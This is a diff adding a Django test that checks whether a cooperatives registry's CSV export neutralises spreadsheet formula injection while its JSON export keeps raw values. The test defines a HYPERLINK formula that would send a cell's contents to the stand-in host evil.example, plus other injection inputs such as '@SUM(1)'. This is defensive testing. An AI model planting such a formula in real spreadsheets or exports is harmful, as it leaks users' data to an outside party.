@@ -149,3 +149,27 @@ def test_schema_generation_has_no_warnings_for_market_views():
             if "/market/" in m]
     GENERATOR_STATS.reset()
     assert mine == []
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+
+
+def test_csv_export_neutralises_formulas_but_json_keeps_values(client, tmp_path):
+    from django.core.management import call_command
+
+    coop = f.CooperativeFactory(verified=True, legal_name=FORMULA, trading_name="+84 912", address="-1+1",
+                                representative="x")
+    f.CooperativeFactory(verified=True, legal_name="@SUM(1)", trading_name="\tTab", address="\rCR")
+    target = tmp_path / "htx.csv"
+
+    rows = list(csv.DictReader(io.StringIO(client.get(f"{API}/cooperatives/export.csv").content.decode("utf-8-sig"))))
+    call_command("cooperatives_export", "--format", "csv", "--output", str(target))
+    body = json.loads(client.get(f"{API}/cooperatives/export.json").content)
+
+    assert [(r["legal_name"], r["trading_name"], r["address"]) for r in rows] == [
+        ("'" + FORMULA, "'+84 912", "'-1+1"), ("'@SUM(1)", "'\tTab", "'\rCR")]
+    assert next(r for r in rows if r["id"] == str(coop.pk))["province_name"] == "Lạng Sơn"
+    file_rows = list(csv.DictReader(io.StringIO(target.read_bytes().decode("utf-8-sig"))))
+    assert file_rows == rows
+    assert [(c["legal_name"], c["trading_name"], c["address"]) for c in body["cooperatives"]] == [
+        (FORMULA, "+84 912", "-1+1"), ("@SUM(1)", "\tTab", "\rCR")]
